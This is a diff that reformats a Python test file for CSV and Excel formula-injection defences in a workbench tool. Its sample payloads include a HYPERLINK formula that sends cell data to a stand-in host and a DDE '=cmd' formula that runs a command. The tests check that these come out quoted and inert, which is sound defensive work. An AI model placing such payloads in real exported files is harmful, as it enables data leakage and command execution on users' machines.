@@ -6,6 +6,7 @@ Every CSV or Excel file the workbench writes for people goes through rbm_utils.c
 numbers. The unit workbook template is an input round-trip file instead: its text is
 stored as typed in text cells (data_type ``s``, quotePrefix), which Excel never evaluates.
 """
+
 from __future__ import annotations
 
 import copy
@@ -19,19 +20,29 @@ import numpy as np
 import openpyxl
 import pandas as pd
 import pytest
+from factories import col_index, minimal_unit, sheet_rows, write_grid_xlsx
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as hs
 
-from factories import col_index, minimal_unit, sheet_rows, write_grid_xlsx
-from rbm_utils.core import schema
 from rbm_utils.cli import main
+from rbm_utils.core import schema
 from rbm_utils.core.config import load_config
 from rbm_utils.core.spreadsheets import FORMULA_PREFIXES, safe_frame, safe_text, write_csv, write_xlsx
 from rbm_utils.intake.template import write_workbook
 from rbm_utils.intake.validate import parse_source
 
-HOSTILE = ["=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "=cmd|' /C calc'!A0", "+33 1 23 45", "-2+3",
-           "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "-", "=", "@"]
+HOSTILE = [
+    '=HYPERLINK("http://x.example/?"&A1,"click")',
+    "=cmd|' /C calc'!A0",
+    "+33 1 23 45",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+    "-",
+    "=",
+    "@",
+]
 HARMLESS = ["plain text", "", "a=b", "x-1", "Q1/1", "  leading spaces", "'already quoted", "<script>alert(1)</script>"]
 
 
@@ -60,8 +71,15 @@ def test_everything_else_is_left_alone(value):
 
 
 def test_safe_frame_quotes_text_and_headers_only_and_does_not_mutate():
-    df = pd.DataFrame({"=evil": ["=1+1", "ok"], "n": [-1, 2], "f": [-0.5, np.nan],
-                       "mixed": ["-", -3], "cat": pd.Categorical(["@x", "y"])})
+    df = pd.DataFrame(
+        {
+            "=evil": ["=1+1", "ok"],
+            "n": [-1, 2],
+            "f": [-0.5, np.nan],
+            "mixed": ["-", -3],
+            "cat": pd.Categorical(["@x", "y"]),
+        }
+    )
     before = df.copy()
     out = safe_frame(df)
     pd.testing.assert_frame_equal(df, before)
@@ -77,9 +95,13 @@ def test_safe_frame_quotes_text_and_headers_only_and_does_not_mutate():
 
 
 def test_write_csv_quotes_text_keeps_numbers(tmp_path):
-    df = pd.DataFrame({"text": HOSTILE + HARMLESS[:2],
-                       "count": range(-6, 6),
-                       "amount": [-1234.5, -0.1, 0.0, 1e-7, 2.5, -3.0, 7.25, 8.0, -9.5, 10.0, 11.0, -12.75]})
+    df = pd.DataFrame(
+        {
+            "text": HOSTILE + HARMLESS[:2],
+            "count": range(-6, 6),
+            "amount": [-1234.5, -0.1, 0.0, 1e-7, 2.5, -3.0, 7.25, 8.0, -9.5, 10.0, 11.0, -12.75],
+        }
+    )
     path = write_csv(df, tmp_path / "out" / "report.csv")
     rows = read_csv_cells(path)
     assert rows[0] == ["text", "count", "amount"]
@@ -97,7 +119,7 @@ def test_write_csv_quotes_text_keeps_numbers(tmp_path):
 cell_values = hs.one_of(
     hs.text(alphabet=hs.characters(blacklist_categories=("Cs",)), max_size=12),
     hs.sampled_from(HOSTILE),
-    hs.integers(min_value=-10**12, max_value=10**12),
+    hs.integers(min_value=-(10**12), max_value=10**12),
     hs.floats(allow_nan=False, allow_infinity=False, width=64),
 )
 
@@ -121,15 +143,14 @@ def test_ingest_report_csv_is_safe(tmp_path):
     """``rbm ingest --report``: hostile values typed in a workbook come back quoted; row numbers stay numbers."""
     unit, frames = minimal_unit()
     grids = copy.deepcopy(sheet_rows(unit, frames))
-    grids["Actuals"][1][col_index("Actuals", "value")] = "=HYPERLINK(\"http://x.example\",\"see\")"
+    grids["Actuals"][1][col_index("Actuals", "value")] = '=HYPERLINK("http://x.example","see")'
     grids["Actuals"][2][col_index("Actuals", "value")] = "@SUM(A1)"
     grids["KPIs"][1][col_index("KPIs", "direction")] = "+up"
     grids["Risks"][1][col_index("Risks", "likelihood")] = "-high"
     grids["Budget"][1][col_index("Budget", "amount")] = "=1+1"
     path = write_grid_xlsx(tmp_path / "AFR.xlsx", grids)
     report = tmp_path / "problems.csv"
-    assert main(["ingest", str(path), "--store", f"sqlite:///{tmp_path / 'rbm.sqlite'}",
-                 "--report", str(report)]) == 1
+    assert main(["ingest", str(path), "--store", f"sqlite:///{tmp_path / 'rbm.sqlite'}", "--report", str(report)]) == 1
     rows = read_csv_cells(report)
     header = rows[0]
     assert {"severity", "code", "sheet", "row", "column", "value", "message"} <= set(header)
@@ -137,7 +158,7 @@ def test_ingest_report_csv_is_safe(tmp_path):
     for r in rows:
         assert all(no_formula_start(c) for c in r), r
     values = [r[header.index("value")] for r in rows[1:]]
-    assert "'=HYPERLINK(\"http://x.example\",\"see\")" in values and "'@SUM(A1)" in values
+    assert '\'=HYPERLINK("http://x.example","see")' in values and "'@SUM(A1)" in values
     assert "'+up" in values and "'-high" in values and "'=1+1" in values
     table = pd.read_csv(report)
     assert pd.api.types.is_integer_dtype(table["row"])
@@ -147,16 +168,17 @@ def test_ingest_report_csv_is_safe(tmp_path):
 
 
 def test_write_xlsx_text_is_text_numbers_are_numbers(tmp_path):
-    df = pd.DataFrame({
-        "text": HOSTILE[:6],
-        "int": [-3, -2, -1, 0, 1, 2],
-        "float": [-1.5, -0.25, np.nan, 0.5, 1e9, -7.0],
-        "flag": [True, False, True, False, True, False],
-        "when": pd.to_datetime(["2026-01-15", None, "2026-03-31", "2026-07-01", "2026-09-30", "2026-12-31"]),
-        "mixed": ["-", -4, None, "=x", 3.5, "ok"],
-    })
-    path = write_xlsx({"Problems: Q3/AFR [draft]": df, "@other": pd.DataFrame({"=h": [-1]})},
-                      tmp_path / "export.xlsx")
+    df = pd.DataFrame(
+        {
+            "text": HOSTILE[:6],
+            "int": [-3, -2, -1, 0, 1, 2],
+            "float": [-1.5, -0.25, np.nan, 0.5, 1e9, -7.0],
+            "flag": [True, False, True, False, True, False],
+            "when": pd.to_datetime(["2026-01-15", None, "2026-03-31", "2026-07-01", "2026-09-30", "2026-12-31"]),
+            "mixed": ["-", -4, None, "=x", 3.5, "ok"],
+        }
+    )
+    path = write_xlsx({"Problems: Q3/AFR [draft]": df, "@other": pd.DataFrame({"=h": [-1]})}, tmp_path / "export.xlsx")
     wb = openpyxl.load_workbook(path)
     assert wb.sheetnames == ["Problems_ Q3_AFR _draft_", "@other"]
     ws = wb.worksheets[0]
